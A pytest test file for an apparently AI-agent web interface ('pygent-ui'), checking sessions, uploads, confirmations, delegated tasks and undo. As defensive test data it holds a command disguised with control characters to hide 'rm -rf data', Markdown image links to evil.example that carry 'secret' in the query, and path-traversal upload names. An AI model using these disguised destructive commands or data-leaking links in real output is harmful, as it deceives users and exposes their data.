"""The pygent-ui page, driven by Streamlit's AppTest with the direct model or a scripted one."""

from __future__ import annotations

import gc
import json
import re
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any, Optional

import pytest

pytest.importorskip("streamlit")

from dependency_injector import providers  # noqa: E402
from streamlit.testing.v1 import AppTest  # noqa: E402

import pygent  # noqa: E402
from pygent.app.agent import AgentLoop  # noqa: E402
from pygent.container import Container  # noqa: E402
from pygent.domain.errors import ModelError, PathEscapeError, SandboxError  # noqa: E402
from pygent.domain.events import AssistantDelta, AssistantText, ToolCallStarted  # noqa: E402
from pygent.domain.messages import Message  # noqa: E402
from pygent.domain.sandbox import CommandResult  # noqa: E402
from pygent.entrypoints import web  # noqa: E402
from pygent.entrypoints.web.chat import call_preview, pretty_arguments  # noqa: E402
from pygent.entrypoints.web.files import read_workspace_file, workspace_files  # noqa: E402
from pygent.entrypoints.web.guard import TOKEN_VAR  # noqa: E402
from pygent.entrypoints.web.session import (  # noqa: E402
    PageConfirm,
    WebSession,
    close_all_sessions,
    live_sessions,
    sweep_sessions,
)
from pygent.entrypoints.web.transcript import Transcript, entries_from_conversation  # noqa: E402
from pygent.entrypoints.web.view import SESSION_KEY, sandbox_label  # noqa: E402
from tests.fakes import FakeModel, FakeSandbox, call, calls, say  # noqa: E402

PAGE = str(web.PAGE)


class SandboxCounter:
    """A sandbox factory for the container that remembers every sandbox it made."""

    def __init__(self, root: Path, kind: type[FakeSandbox] = FakeSandbox) -> None:
        self.root = root
        self.kind = kind
        self.made: list[FakeSandbox] = []

    def __call__(self, settings: Any = None) -> FakeSandbox:
        workspace = self.root / f"ws{len(self.made)}"
        workspace.mkdir()
        sandbox = self.kind(workspace)
        self.made.append(sandbox)
        return sandbox

    @property
    def open(self) -> list[FakeSandbox]:
        return [s for s in self.made if not s.closed]


class InterruptibleSandbox(FakeSandbox):
    """``sleep`` blocks until ``interrupt()``, as a real sandbox's long command would."""

    def __init__(self, workspace: Path) -> None:
        super().__init__(workspace)
        self.sleeping = threading.Event()
        self.interrupted = threading.Event()

    def run(self, command: str, timeout: Optional[float] = None) -> CommandResult:
        if command == "sleep":
            self.commands.append(command)
            self.sleeping.set()
            self.interrupted.wait(30)
            return CommandResult("", 130, notice="interrupted")
        return super().run(command, timeout)

    def interrupt(self) -> None:
        self.interrupted.set()


class StreamingModel:
    """Streams its answer in pieces, as the OpenAI adapter does, and says whether it could."""

    def __init__(self) -> None:
        self.streamed = False

    def chat(self, messages: list[dict[str, Any]], model: str, tools: list[dict[str, Any]],
             on_delta: Any = None) -> Message:
        if on_delta is not None:
            self.streamed = True
            for piece in ("Hel", "lo ", "world"):
                on_delta(piece)
        return say("Hello world")


@pytest.fixture(autouse=True)
def _fresh_server(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Iterator[None]:
    """Each test is a fresh server: no cached setup, no session left open, and temporary
    workspaces (kept ones too, when a session ends) under the test's own folder."""
    import tempfile

    import streamlit as st

    scratch = tmp_path / "tmp"
    scratch.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(scratch))
    st.cache_resource.clear()
    yield
    close_all_sessions()


@pytest.fixture
def sandboxes(tmp_path: Path) -> Iterator[SandboxCounter]:
    counter = SandboxCounter(tmp_path)
    with Container.sandbox.override(providers.Factory(counter)):
        yield counter


def open_page() -> AppTest:
    return AppTest.from_file(PAGE, default_timeout=30).run()


def session_of(at: AppTest) -> WebSession:
    session = at.session_state[SESSION_KEY]
    assert isinstance(session, WebSession)
    return session


def send(at: AppTest, text: str) -> AppTest:
    """Type a line, let the worker finish, and render the result."""
    at.chat_input[0].set_value(text).run()
    assert session_of(at).wait(30)
    return at.run()


def tool_blocks(at: AppTest) -> list[Any]:
    return list(at.status)


def plain(markdown: str) -> str:
    """A label as the page draws it: the Markdown backslash escapes taken out."""
    return re.sub(r"\\(.)", r"\1", markdown)


def shown_text(at: AppTest) -> str:
    parts = [e.value for e in (*at.markdown, *at.code, *at.error, *at.info)]
    return "\n".join(str(p) for p in parts)


def test_tool_calls_typed_for_the_direct_model_render_as_blocks_with_their_output() -> None:
    at = open_page()
    send(at, 'write_file path="a.txt" content="hi"')
    send(at, 'bash cmd="cat a.txt"')
    assert not at.exception
    labels = [plain(block.label) for block in tool_blocks(at)]
    assert labels == ["write_file · a.txt", "bash · cat a.txt"]
    codes = [c.value for c in at.code]
    assert json.loads(codes[0]) == {"path": "a.txt", "content": "hi"}
    assert codes[-1] == "hi"
    assert "**Sandbox:** local" in shown_text(at)
    assert [b.label for b in at.get("download_button")] == ["a.txt"]


def test_a_scripted_reply_renders_as_markdown_and_a_failed_call_is_flagged(
    sandboxes: SandboxCounter,
) -> None:
    model = FakeModel([calls(call("bash", {})), say("All **done**.")])
    with Container.model.override(providers.Object(model)):
        at = open_page()
        send(at, "do it")
    assert "All **done**." in [m.value for m in at.markdown]
    (block,) = tool_blocks(at)
    assert plain(block.label) == "bash · failed"
    assert "bad arguments" in at.code[-1].value


def test_turning_a_tool_off_removes_it_from_the_schema_and_the_prompt_of_that_tab_only(
    sandboxes: SandboxCounter,
) -> None:
    model = FakeModel(default=say("ok"))
    with Container.model.override(providers.Object(model)):
        at, other = open_page(), open_page()
        at.toggle(key="tool:bash").set_value(False).run()
        send(at, "hello")
        send(other, "hello")
    mine, theirs = model.requests
    names = [t["function"]["name"] for t in mine["tools"]]
    assert "bash" not in names and {"write_file", "stop", "ask_user"} <= set(names)
    assert "bash:" not in mine["messages"][0]["content"]
    assert "bash" in [t["function"]["name"] for t in theirs["tools"]]
    assert "bash" in pygent.tools()


def test_new_conversation_forgets_the_talk_and_keeps_the_files(
    sandboxes: SandboxCounter,
) -> None:
    model = FakeModel([calls(call("write_file", {"path": "k.txt", "content": "kept"}))],
                      default=say("noted"))
    with Container.model.override(providers.Object(model)):
        at = open_page()
        send(at, "remember")
        [button] = [b for b in at.button if b.label == "New conversation"]
        button.click().run()
        assert not tool_blocks(at)
        send(at, "again")
    assert [m["role"] for m in model.requests[-1]["messages"]] == ["system", "user"]
    assert (sandboxes.made[0].workspace / "k.txt").read_text() == "kept"
    assert [b.label for b in at.get("download_button")] == ["k.txt"]


def test_slash_commands_typed_in_the_chat_box_work_as_in_the_cli(
    sandboxes: SandboxCounter,
) -> None:
    model = FakeModel(default=say("hi there"))
    with Container.model.override(providers.Object(model)):
        at = open_page()
        send(at, "/help")
        assert "/cmd" in at.code[-1].value
        send(at, "/cmd echo straight")
        assert at.code[-1].value == "straight"
        send(at, "talk")
        send(at, "/new")
        assert "hi there" not in [m.value for m in at.markdown]
        assert "New conversation" in at.code[-1].value
        send(at, "/nope")
        assert "Unknown command /nope" in at.error[-1].value
    assert sandboxes.made[0].commands == ["echo straight"]
    assert len(model.requests) == 1


def test_init_on_the_page_writes_agents_md_and_the_sidebar_names_it_from_the_next_conversation(
    sandboxes: SandboxCounter,
) -> None:
    model = FakeModel(default=say("ok"))
    with Container.model.override(providers.Object(model)):
        at = open_page()
        send(at, "/init")
        assert "Wrote AGENTS.md" in at.code[-1].value
        assert not [m for m in at.sidebar.markdown if "Instructions:" in m.value]
        [button] = [b for b in at.button if b.label == "New conversation"]
        button.click().run()
        send(at, "go")
    [info] = [plain(m.value) for m in at.sidebar.markdown if "Instructions:" in m.value]
    assert re.search(r"\*\*Instructions:\*\* AGENTS\.md \(\d+ B, ~\d+ tokens\)$", info), info
    assert "## Build and test" in model.requests[-1]["messages"][0]["content"]


def test_exit_ends_the_session_and_releases_its_sandbox(sandboxes: SandboxCounter) -> None:
    at = open_page()
    send(at, "/exit")
    assert sandboxes.open == []
    assert "has ended" in at.info[0].value
    [button] = at.button
    button.click().run()
    assert len(sandboxes.open) == 1


@pytest.mark.parametrize(("line", "kept"), [("/exit", True), ("/exit discard", False)])
def test_exit_keeps_a_temporary_workspace_with_files_and_the_page_says_where(
    line: str, kept: bool
) -> None:
    at = open_page()
    assert "(temporary: kept when the session ends if it holds files" in at.caption[0].value
    send(at, 'write_file path="page.txt" content="made on the page"')
    workspace = session_of(at).agent.runtime.workspace
    send(at, line)
    assert workspace.exists() is kept
    said = "Kept the workspace" if kept else "Removed the temporary workspace"
    assert f"{said} {workspace} (1 file)." in plain(at.info[0].value)


def test_a_tab_swept_or_a_server_stopping_keeps_the_files_and_logs_where(
    caplog: pytest.LogCaptureFixture,
) -> None:
    import logging

    session = WebSession(pygent.Agent(settings=pygent.Settings(backend="direct",
                                                               use_docker=False)), key="gone")
    session.agent.runtime.write_file("draft.md", "hours of work")
    workspace = session.agent.runtime.workspace
    with caplog.at_level(logging.WARNING, logger="pygent"):
        assert sweep_sessions(lambda key: False, grace=0, now=1.0) == 0
        assert sweep_sessions(lambda key: False, grace=0, now=2.0) == 1
    assert (workspace / "draft.md").read_text() == "hours of work"
    assert f"kept the workspace {workspace}" in caplog.text
    assert session.workspace_end is not None and session.workspace_end.kept


def test_a_read_only_session_says_so_on_the_page(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PYGENT_WORKSPACE_MODE", "read-only")
    monkeypatch.setenv("PYGENT_CONFINE", "0")
    at = open_page()
    assert ("**read-only** for the file tools only: local commands are not confined"
            in at.caption[0].value)
    send(at, 'write_file path="x.txt" content="no"')
    assert "read-only" in shown_text(at)
    assert not (session_of(at).agent.runtime.workspace / "x.txt").exists()


def test_an_upload_lands_in_the_workspace_and_escaping_names_are_refused(
    sandboxes: SandboxCounter,
) -> None:
    at = open_page()
    at.file_uploader[0].upload("notes.txt", b"uploaded")
    at.button[-1].click().run()  # the form's Upload button (the last one in the sidebar)
    workspace = sandboxes.made[0].workspace
    assert (workspace / "notes.txt").read_bytes() == b"uploaded"
    assert "Saved notes.txt" in at.success[0].value

    at.file_uploader[0].upload("../x", b"escape")
    at.button[-1].click().run()
    assert "outside the workspace" in at.error[0].value
    assert not (workspace.parent / "x").exists()

    at.file_uploader[0].upload("fine.txt", b"escape")
    at.text_input[0].set_value("../../escape.txt")
    at.button[-1].click().run()
    assert "outside the workspace" in at.error[0].value
    assert not list(workspace.parent.parent.glob("escape.txt"))


def test_reruns_reuse_one_sandbox_and_a_dropped_tab_releases_it(
    sandboxes: SandboxCounter,
) -> None:
    at = open_page()
    for _ in range(5):
        at.run()
    at.toggle(key="tool:stop").set_value(False).run()
    assert len(sandboxes.made) == 1
    other = open_page()
    other.run()
    assert len(sandboxes.open) == 2
    assert len(live_sessions()) == 2
    del other
    gc.collect()
    assert len(sandboxes.open) == 1
    assert len(live_sessions()) == 1
    assert session_of(at).agent.runtime.sandbox is sandboxes.open[0]


def test_a_model_error_shows_what_to_do_and_the_conversation_stays(
    sandboxes: SandboxCounter,
) -> None:
    model = FakeModel([ModelError("HTTP 401: bad key"), say("back again")])
    with Container.model.override(providers.Object(model)):
        at = open_page()
        send(at, "first")
        assert "HTTP 401" in at.error[0].value
        assert "OPENAI_API_KEY" in at.error[0].value
        send(at, "second")
    assert [m.value for m in at.chat_message[0].markdown] == ["first"]
    assert "back again" in [m.value for m in at.markdown]
    assert [m["content"] for m in model.requests[-1]["messages"][1:]] == ["first", "second"]


def test_stop_ends_the_step_before_the_next_tool_call(sandboxes: SandboxCounter) -> None:
    entered, release = threading.Event(), threading.Event()

    @pygent.tool
    def wait(runtime: Any) -> str:
        """Block until the test lets go."""
        entered.set()
        release.wait(30)
        return "waited"

    model = FakeModel([calls(call("wait"), call("bash", {"cmd": "echo never"}))])
    with Container.model.override(providers.Object(model)):
        at = open_page()
        at.chat_input[0].set_value("go").run()
        assert entered.wait(30)
        at.run()
        at.button(key="stop").click().run()
        release.set()
        assert session_of(at).wait(30)
        at.run()
    assert sandboxes.made[0].commands == []
    assert len(model.requests) == 1
    assert "Stopped" in at.info[-1].value
    assert "Interrupted by the user" in at.code[-1].value


def test_stop_interrupts_a_running_command_when_the_sandbox_can(tmp_path: Path) -> None:
    counter = SandboxCounter(tmp_path, InterruptibleSandbox)
    model = FakeModel([calls(call("bash", {"cmd": "sleep"}))], default=say("unreached"))
    with Container.sandbox.override(providers.Factory(counter)), \
            Container.model.override(providers.Object(model)):
        at = open_page()
        at.chat_input[0].set_value("go").run()
        sandbox = counter.made[0]
        assert isinstance(sandbox, InterruptibleSandbox)
        assert sandbox.sleeping.wait(30)
        at.button(key="stop").click().run()
        assert session_of(at).wait(30)
        at.run()
    assert sandbox.interrupted.is_set()
    assert len(model.requests) == 1
    assert "interrupted" in at.code[-1].value


def test_with_confirm_on_a_denied_command_is_not_run(sandboxes: SandboxCounter) -> None:
    at = open_page()
    send(at, "/confirm on")
    at.chat_input[0].set_value("echo risky").run()
    session = session_of(at)
    for _ in range(300):
        if session.confirm.pending is not None or not session.busy:
            break
        session.wait(0.1)
    assert session.confirm.pending == "echo risky"
    at.run()
    at.button(key=f"deny:{session.confirm.ticket}").click().run()
    assert session.wait(30)
    at.run()
    assert sandboxes.made[0].commands == []
    assert "declined" in at.code[-1].value


def test_streamed_text_reaches_the_page_once(
    sandboxes: SandboxCounter,
) -> None:
    model = StreamingModel()
    with Container.model.override(providers.Object(model)):
        at = open_page()
        send(at, "greet")
    assert model.streamed
    assert [m.value for m in at.chat_message[1].markdown] == ["Hello world"]


def test_a_transcript_grows_while_text_streams_and_keeps_only_the_final_text() -> None:
    transcript = Transcript()
    transcript(AssistantDelta("Hel"))
    transcript(AssistantDelta("lo"))
    assert [(e.text, e.done) for e in transcript.snapshot()] == [("Hello", False)]
    transcript(AssistantText("Hello!"))
    transcript(AssistantDelta("write_file(...)"))  # text that turns out to be a tool call
    transcript(ToolCallStarted("c1", "write_file", "{}"))
    assert [(e.kind, e.text) for e in transcript.snapshot()] == [
        ("assistant", "Hello!"), ("tool", "")]


def test_a_resumed_conversation_shows_its_turns_and_tool_results() -> None:
    messages = [Message(role="user", content="list"),
                calls(call("bash", {"cmd": "ls"}, "c1"), content="Looking."),
                Message(role="tool", content="a.txt", tool_call_id="c1", name="bash"),
                say("One file.")]
    entries = entries_from_conversation(messages)
    assert [(e.kind, e.text or e.output) for e in entries] == [
        ("user", "list"), ("assistant", "Looking."), ("tool", "a.txt"),
        ("assistant", "One file.")]


@pytest.mark.docker
def test_with_docker_the_page_says_docker_and_commands_run_in_the_container(
    docker_image: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PYGENT_USE_DOCKER", "1")
    monkeypatch.setenv("PYGENT_IMAGE", docker_image)
    at = open_page()
    assert "**Sandbox:** Docker" in at.markdown[0].value
    send(at, 'write_file path="d.txt" content="in docker"')
    send(at, "cat /workspace/d.txt")
    assert at.code[-1].value == "in docker"
    sandbox = session_of(at).agent.runtime
    session_of(at).close()
    assert sandbox.use_docker


def test_a_sandbox_that_cannot_start_is_explained_and_the_page_can_retry(tmp_path: Path) -> None:
    def no_engine(settings: Any = None) -> FakeSandbox:
        raise SandboxError("the Docker engine is not answering")

    with Container.sandbox.override(providers.Factory(no_engine)):
        at = open_page()
        assert "Docker engine is not answering" in at.error[0].value
        assert "--no-docker" in at.error[0].value
    counter = SandboxCounter(tmp_path)
    with Container.sandbox.override(providers.Factory(counter)):
        at.button[0].click().run()
    assert not at.error
    assert len(counter.open) == 1


def test_tabs_gone_longer_than_the_reconnect_window_are_swept(tmp_path: Path) -> None:
    counter = SandboxCounter(tmp_path)

    def session(key: str) -> WebSession:
        runtime = pygent.Runtime(sandbox=counter())
        return WebSession(AgentLoop(FakeModel(), runtime), key=key)

    mine, theirs = session("mine"), session("theirs")

    def connected(key: str) -> bool:
        return key == "mine"

    assert sweep_sessions(connected, grace=60, now=1000.0) == 0
    assert sweep_sessions(connected, grace=60, now=1059.0) == 0
    assert len(counter.open) == 2
    assert sweep_sessions(connected, grace=60, now=1060.0) == 1
    assert counter.open == [mine.agent.runtime.sandbox]
    assert theirs.ended and not mine.ended


def test_the_file_list_skips_links_and_reading_refuses_to_leave_the_workspace(
    workspace: Path, tmp_path: Path
) -> None:
    (tmp_path / "secret").write_text("host only")
    (workspace / "sub").mkdir()
    (workspace / "sub" / "b.txt").write_text("b")
    (workspace / "a.txt").write_text("a")
    (workspace / "link").symlink_to(tmp_path / "secret")
    assert workspace_files(workspace) == (["a.txt", "sub/b.txt"], False)
    assert workspace_files(workspace, limit=1) == (["a.txt"], True)
    assert read_workspace_file(workspace, "sub/b.txt") == b"b"
    with pytest.raises(PathEscapeError):
        read_workspace_file(workspace, "../secret")
    with pytest.raises(PathEscapeError):
        read_workspace_file(workspace, "link")


# -- the launcher -------------------------------------------------------------------------------
def test_the_launcher_listens_on_localhost_by_default_and_passes_the_flags_as_settings(
    tmp_path: Path,
) -> None:
    args = web.build_parser().parse_args(
        ["--no-docker", "--model", "m1", "--backend", "echo", "--workspace", str(tmp_path)]
    )
    command = web.server_command(args)
    assert command[1:3] == ["-m", "pygent.entrypoints.web.server"]
    assert command[command.index("--server.address") + 1] == "127.0.0.1"
    assert command[command.index("--server.port") + 1] == "8501"
    assert command[command.index("--server.headless") + 1] == "true"
    env = web.page_environment(args, {"PYGENT_USE_DOCKER": "1"})
    assert env["PYGENT_USE_DOCKER"] == "0"
    assert (env["PYGENT_MODEL"], env["PYGENT_MODEL_BACKEND"]) == ("m1", "echo")
    assert env["PYGENT_WORKSPACE"] == str(tmp_path.resolve())


def test_the_launcher_is_headless_in_ci_and_warns_about_other_addresses(
    capsys: pytest.CaptureFixture[str],
) -> None:
    assert web.default_headless({"CI": "true", "DISPLAY": ":0"})
    assert web.is_loopback("127.0.0.1") and web.is_loopback("::1")
    assert not web.is_loopback("0.0.0.0")
    assert web.main(["--host", "0.0.0.0", "--config", "/no/such/pygent.toml"]) == 2
    err = capsys.readouterr().err
    assert "anyone who can reach this address and has the token can run shell commands" in err
    assert "/no/such/pygent.toml does not exist" in err


def test_the_token_limit_stops_a_web_run_and_says_so(workspace: Path) -> None:
    model = FakeModel(default=calls(call("bash", {"cmd": "echo again"})), usage=[(60, 40)] * 10)
    agent = AgentLoop(model, pygent.Runtime(sandbox=FakeSandbox(workspace)))
    session = WebSession(agent, max_steps=10, max_tokens=150)
    session.submit("loop")
    assert session.wait(30)
    assert len(model.requests) == 2  # 100 tokens after one step, 200 after two: stop
    notices = [e.text for e in session.transcript.snapshot() if e.kind == "notice"]
    assert any("token" in text.lower() for text in notices), notices


@pytest.mark.parametrize(("flags", "notice"), [(["--max-steps", "2"], "step limit of 2"),
                                               (["--max-tokens", "150"], "token")])
def test_pygent_ui_s_step_and_token_limits_bound_the_page_s_runs(
    sandboxes: SandboxCounter, monkeypatch: pytest.MonkeyPatch, flags: list[str], notice: str
) -> None:
    for name, value in web.page_environment(web.build_parser().parse_args(flags), {}).items():
        monkeypatch.setenv(name, value)
    model = FakeModel(default=calls(call("bash", {"cmd": "echo again"})), usage=[(60, 40)] * 10)
    with Container.model.override(providers.Object(model)):
        at = send(open_page(), "loop")
    assert len(model.requests) == 2
    assert any(notice in e.text for e in session_of(at).transcript.snapshot())


# -- what the page shows of a command -----------------------------------------------------------
DECEPTIVE = "echo safe\r\x1b[2Krm -rf data \u202e"


def wait_for_question(session: WebSession) -> None:
    for _ in range(300):
        if session.confirm.pending is not None or not session.busy:
            return
        session.wait(0.1)


def test_a_command_to_confirm_shows_its_hidden_characters_and_runs_exactly_as_approved(
    sandboxes: SandboxCounter,
) -> None:
    model = FakeModel([calls(call("bash", {"cmd": DECEPTIVE}))], default=say("done"))
    with Container.model.override(providers.Object(model)):
        at = open_page()
        send(at, "/confirm on")
        at.chat_input[0].set_value("go").run()
        session = session_of(at)
        wait_for_question(session)
        assert session.confirm.pending == DECEPTIVE
        at.run()
        codes = [c.value for c in at.code]
        assert r"echo safe\r\x1b[2Krm -rf data \u202e" in codes
        assert not any("\r" in c or "\x1b" in c or "\u202e" in c for c in codes)
        assert "control or invisible characters" in at.warning[0].value
        (block,) = tool_blocks(at)
        assert plain(block.label) == r"bash · echo safe\r\x1b[2Krm -rf data \u202e"
        at.button(key=f"allow:{session.confirm.ticket}").click().run()
        assert session.wait(30)
    assert sandboxes.made[0].commands == [DECEPTIVE]


def test_an_answer_to_an_earlier_question_never_approves_the_next_one() -> None:
    confirm = PageConfirm()
    results: list[bool] = []

    def ask(command: str) -> threading.Thread:
        worker = threading.Thread(target=lambda: results.append(confirm(command)))
        worker.start()
        while confirm.pending != command:
            worker.join(0.01)
        return worker

    first = ask("ls")
    ticket = confirm.ticket
    confirm.answer(False, ticket)
    confirm.answer(True, ticket)  # a second click on the same question changes nothing
    first.join(5)
    second = ask("rm -rf data")
    confirm.answer(True, ticket)  # a late click meant for "ls"
    assert confirm.pending == "rm -rf data"
    confirm.answer(False, confirm.ticket)
    second.join(5)
    assert results == [False, False]


def test_arguments_nested_fifty_thousand_deep_are_shown_as_sent_and_the_page_survives(
    sandboxes: SandboxCounter,
) -> None:
    deep = "[" * 50_000 + "]" * 50_000
    assert pretty_arguments(deep) == deep
    assert call_preview(deep) == "· " + "[" * 70 + "..."
    model = FakeModel([calls(call("bash", deep))], default=say("done"))
    with Container.model.override(providers.Object(model)):
        at = open_page()
        send(at, "go")
    assert not at.exception
    (block,) = tool_blocks(at)
    assert plain(block.label).startswith("bash · [[[")


def test_an_image_in_a_reply_is_drawn_as_a_link_naming_its_host_and_code_is_kept(
    sandboxes: SandboxCounter,
) -> None:
    reply = "Look ![chart](http://evil.example/c.png?d=secret) or `![x](http://code/)`"
    with Container.model.override(providers.Object(FakeModel(default=say(reply)))):
        at = open_page()
        send(at, "draw")
    shown = [m.value for m in at.chat_message[1].markdown]
    assert shown == ["Look [image: chart (evil\\.example)](http://evil.example/c.png?d=secret)"
                     " or `![x](http://code/)`"]


def test_the_sandbox_label_is_the_runtime_s_own_when_it_has_one() -> None:
    class Labelled:
        kind, label = "local", "local (confined)"

    class Bare:
        kind = "docker"

    assert sandbox_label(Labelled()) == "local (confined)"
    assert sandbox_label(Bare()) == "Docker"


def test_the_server_command_carries_no_token(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(TOKEN_VAR, "a-token-set-by-the-user-123")
    args = web.build_parser().parse_args(["--no-headless"])
    command = web.server_command(args)
    assert "--open-browser" in command
    assert not any("a-token-set-by-the-user-123" in part for part in command)


# -- delegated tasks ----------------------------------------------------------------------------
DELEGATE_WRITE = 'delegate_task prompt="write_file path=\\"b.txt\\" content=\\"hi\\""'


def sidebar_tasks(at: AppTest) -> list[str]:
    """The Tasks section's lines, as the page draws them."""
    return [plain(m.value) for m in at.sidebar.markdown if m.value.startswith("**task")]


def test_the_sidebar_lists_delegated_tasks_and_the_conversation_says_when_one_ends() -> None:
    from pygent.app.task_report import duration

    at = open_page()
    assert "None yet." in plain(at.sidebar.caption[1].value)
    send(at, DELEGATE_WRITE)
    session = session_of(at)
    assert session.tasks is not None and session.tasks.wait("task-1", 30) == "finished"
    at.run()
    task = session.tasks.tasks["task-1"]
    assert sidebar_tasks(at) == [f"**task-1** · finished · {duration(task.seconds)} · Pygent"]
    captions = [plain(c.value) for c in at.sidebar.caption]
    assert f'write_file path="b.txt" content="hi"\n\nworkspace: {task.workspace}' in captions
    assert plain(at.info[-1].value) == f"task-1 finished (Pygent, {duration(task.seconds)})"
    send(at, "/tasks")
    assert "task-1  finished  " in at.code[-1].value
    assert f"  workspace: {task.workspace}" in at.code[-1].value
    assert not at.exception


def test_a_running_task_has_a_stop_button_that_ends_it_and_its_process() -> None:
    from tests.processes import eventually, long_sleep, processes_running

    command = long_sleep()
    at = send(open_page(), f'delegate_task prompt="{command}"')
    assert eventually(lambda: bool(processes_running(command)))
    at.run()
    assert sidebar_tasks(at)[0].startswith("**task-1** · running · ")
    at.button(key="stop-task:task-1").click().run()
    assert processes_running(command) == []
    assert sidebar_tasks(at)[0].startswith("**task-1** · cancelled: stopped from the page · ")
    assert not [b for b in at.sidebar.button if b.label == "Stop task-1"]
    assert plain(at.info[-1].value).startswith("task-1 cancelled: stopped from the page (Pygent")


def test_closing_a_tab_s_session_stops_its_tasks() -> None:
    from tests.processes import eventually, long_sleep, processes_running

    command = long_sleep()
    at = send(open_page(), f'delegate_task prompt="{command}"')
    assert eventually(lambda: bool(processes_running(command)))
    send(at, "/exit")
    assert processes_running(command) == []


def test_a_task_s_prompt_and_status_are_drawn_as_they_are_never_as_markdown() -> None:
    at = open_page()
    session = session_of(at)
    assert session.tasks is not None
    prompt = "echo **bold** ![x](http://evil.example/x.png) \x1b[2J"
    session.tasks.wait(session.tasks.start_task(prompt, session.agent.runtime), 30)
    at.run()
    (caption,) = [c.value for c in at.sidebar.caption if "evil" in c.value]
    assert caption.startswith(r"echo \*\*bold\*\* \!\[x\]\(http\:\/\/evil\.example\/x\.png\) ")
    assert plain(caption).startswith(r"echo **bold** ![x](http://evil.example/x.png) \x1b[2J")
    assert "\x1b" not in caption


def test_a_task_s_line_never_splits_text_that_is_still_streaming() -> None:
    from pygent.entrypoints.web.transcript import Entry

    transcript = Transcript()
    transcript(AssistantDelta("Hel"))
    transcript.add_aside(Entry("task", "task-1 finished (Pygent, 1 s)"))
    transcript(AssistantDelta("lo"))
    transcript(AssistantText("Hello"))
    assert [(e.kind, e.text) for e in transcript.snapshot()] == [
        ("task", "task-1 finished (Pygent, 1 s)"), ("assistant", "Hello")]


# -- checkpoints: the Undo, Redo and Diff buttons (issue 15) ------------------------------------
def sidebar_button(at: AppTest, label: str) -> Any:
    [button] = [b for b in at.sidebar.button if b.label == label]
    return button


def press(at: AppTest, label: str) -> AppTest:
    """Click a sidebar button, let the command it starts finish, and draw the result."""
    sidebar_button(at, label).click().run()
    assert session_of(at).wait(30)
    return at.run()


def test_undo_redo_and_diff_buttons_act_on_the_agent_s_steps() -> None:
    at = send(open_page(), 'write_file path="u.txt" content="one"')
    workspace = Path(session_of(at).agent.runtime.workspace)
    assert (workspace / "u.txt").read_text() == "one"
    assert "1 step to undo, 0 to redo." in [c.value for c in at.sidebar.caption]
    assert sidebar_button(at, "Redo").disabled
    press(at, "Diff")
    assert "+one" in at.code[-1].value and "u.txt" in at.code[-1].value
    press(at, "Undo")
    assert not (workspace / "u.txt").exists()
    assert at.code[-1].value.startswith("Undid step 1")
    assert "0 steps to undo, 1 to redo." in [c.value for c in at.sidebar.caption]
    assert sidebar_button(at, "Undo").disabled
    press(at, "Redo")
    assert (workspace / "u.txt").read_text() == "one"
    assert not at.exception


def test_an_undo_that_would_overwrite_your_changes_asks_on_the_page_first() -> None:
    at = send(open_page(), 'write_file path="u.txt" content="agent"')
    workspace = Path(session_of(at).agent.runtime.workspace)
    (workspace / "u.txt").write_text("mine")  # the person edits the file after the step
    press(at, "Undo")
    assert "u.txt" in at.error[-1].value and (workspace / "u.txt").read_text() == "mine"
    assert "would be overwritten" in plain(at.sidebar.warning[0].value)
    sidebar_button(at, "Keep mine").click().run()
    assert not at.sidebar.warning and (workspace / "u.txt").read_text() == "mine"
    press(at, "Undo")
    press(at, "Overwrite")
    assert not (workspace / "u.txt").exists()
    assert at.code[-1].value.startswith("Undid step 1")


def test_undo_with_the_conversation_rewinds_what_the_page_shows() -> None:
    at = send(open_page(), 'write_file path="u.txt" content="one"')
    assert tool_blocks(at)
    at.sidebar.checkbox(key="undo-chat").check().run()
    press(at, "Undo")
    session = session_of(at)
    assert not tool_blocks(at) and len(session.agent.conversation) == 0
    assert at.code[-1].value.startswith("Undid step 1")
    press(at, "Redo")
    assert tool_blocks(at) and len(session.agent.conversation) > 0
